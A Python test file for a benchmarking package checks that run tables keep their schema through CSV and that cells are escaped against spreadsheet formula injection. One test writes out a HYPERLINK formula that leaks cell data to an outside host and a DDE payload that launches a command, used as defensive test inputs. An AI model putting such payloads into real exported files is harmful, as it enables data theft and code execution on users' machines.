"""Frames hold what their schema says, in memory and after a way through CSV."""

import csv
import re
from pathlib import Path

from factories import runs_frame
from rediscover.runs.schema import RUNS, SCORES, check, read_csv, to_csv
from rediscover.system.cells import marked

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

IDENTITY = {"problem": "odes/1", "subset": "1", "method": "sindy", "settings": {"a": [1, 0.5]}, "noise": 0.1}
ANSWER = {"solution": {"x0": "2.0*x0"}, "candidates": [{"solution": {"x0": "2.0*x0"}, "notes": {}}]}
NOTHING = {"solution": None, "candidates": [], "status": "timeout", "loss": np.nan, "complexity": np.nan}


@pytest.fixture
def runs():
    ok = IDENTITY | ANSWER | {"reason": "", "loss": 0.25, "complexity": 3.0, "evaluations": 7}
    return runs_frame([ok, ok | NOTHING | {"reason": "more than 1 s", "evaluations": None}])


def test_runs_come_back_from_csv_as_they_were(runs, tmp_path):
    to_csv(check(runs, RUNS), tmp_path / "runs.csv")
    again = read_csv(tmp_path / "runs.csv")
    assert again["subset"].tolist() == ["1", "1"] and again["reason"].tolist() == ["", "more than 1 s"]
    for name in ("settings", "solution", "candidates"):
        assert again[name].tolist() == runs[name].tolist(), name
    assert check(again.astype({"evaluations": "Int64"}), RUNS)["loss"].isna().tolist() == [False, True]


def test_csv_holds_json_and_blanks(runs, tmp_path):
    to_csv(runs[["settings", "solution"]], tmp_path / "runs.csv")
    assert (tmp_path / "runs.csv").read_text().splitlines() == [
        "settings,solution",
        '"{""a"": [1, 0.5]}","{""x0"": ""2.0*x0""}"',
        '"{""a"": [1, 0.5]}",',
    ]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"solution": '{"x0": "2.0*x0"}'}, "column 'solution' holds a str, not dict | None"),
        ({"seed": "0"}, "column 'seed' holds a str, not int"),
        ({"front": 1.0}, "column 'front' is not of this frame"),
    ],
)
def test_another_type_or_column_is_refused(runs, change, message):
    with pytest.raises(TypeError, match=message.replace("|", r"\|")):
        check(runs.assign(**change), RUNS)


def test_a_missing_column_is_refused_and_scores_are_numbers(runs):
    scores = runs[[name for name in SCORES if name in RUNS]].assign(scoring="", r2=0.5)
    with pytest.raises(TypeError, match="no column 'scoring'"):
        check(scores.drop(columns="scoring"), SCORES, rest=float)
    with pytest.raises(TypeError, match="column 'r2' holds a str"):
        check(scores.assign(r2="0.5"), SCORES, rest=float)
    assert check(scores, SCORES, rest=float) is scores


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.lists(st.text("=+-@'\t\r\n x1.(|!\"＝－", max_size=6), min_size=1, max_size=5))
def test_no_cell_is_a_formula_of_a_spreadsheet_and_each_is_read_as_it_was(tmp_path_factory, drawn):
    texts = [text.replace("\r\n", "\n").replace("\r", "\n") for text in drawn]
    frame = pd.DataFrame({"problem": drawn, "method": drawn, "reason": drawn, "score": 1.0})
    path = tmp_path_factory.getbasetemp() / "cells.csv"
    to_csv(frame, path)
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    for text, row in zip(texts, rows[1:], strict=True):
        cell = row[0].lstrip()
        assert row[0] == text or row[0] == f"'{text}"
        assert not row[0].startswith(("\t", "\r", "\n")) and not cell.startswith(("=", "@", "＝")), row
        if cell[:1] in ("+", "-", "－"):
            assert not re.match(r".[\s+-]*[A-Za-z]", cell) and not set(cell) & set("(|!=@\"'"), row
    again = read_csv(path)
    for name in ("problem", "method", "reason"):
        assert again[name].tolist() == texts


def test_a_methods_name_and_reason_are_no_formulas(runs, tmp_path):
    attack = '=HYPERLINK("http://there/?"&A1,"here")'
    frame = runs.assign(method=attack, reason="-2+3+cmd|' /C calc'!A0").rename(columns={"loss": "@loss"})
    to_csv(frame, tmp_path / "r.csv")
    text = (tmp_path / "r.csv").read_text()
    assert "\"'=HYPERLINK(" in text and "'-2+3+cmd|" in text and ",'@loss," in text
    again = read_csv(tmp_path / "r.csv")
    assert set(again["method"]) == {attack} and "@loss" in again


def test_numbers_and_intervals_stay_as_they_are(tmp_path):
    texts = ["-0.5", "-0.32 [-0.95, 0.32]", "-0.13 to 0.59", "-inf", "-", "+, -, *, exp", "1e-3"]
    frame = pd.DataFrame({"text": texts, "x": -1.5})
    to_csv(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == frame.to_csv(index=False)


TABLES = sorted((Path(__file__).parents[1] / "tables").glob("*.csv"))


@pytest.mark.parametrize("path", TABLES, ids=lambda path: path.name)
def test_no_committed_table_has_a_formula(path):
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert marked(frame).equals(frame)
